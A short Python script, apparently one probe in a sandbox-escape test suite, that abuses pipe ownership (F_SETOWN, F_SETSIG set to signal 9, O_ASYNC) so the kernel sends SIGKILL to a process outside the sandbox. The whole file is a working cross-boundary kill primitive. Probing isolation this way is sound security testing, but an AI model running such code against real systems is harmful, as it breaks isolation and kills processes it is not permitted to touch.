# Makes the kernel send the signal: a process outside as the owner of a pipe.
# needs: outside
from escape import *
import fcntl
r, w = os.pipe()
fcntl.fcntl(r, fcntl.F_SETOWN, int(E["OUTSIDE_VICTIM"]))
fcntl.fcntl(r, 10, 9)  # F_SETSIG
fcntl.fcntl(r, fcntl.F_SETFL, os.O_ASYNC)
os.write(w, b"x")
print("sent")
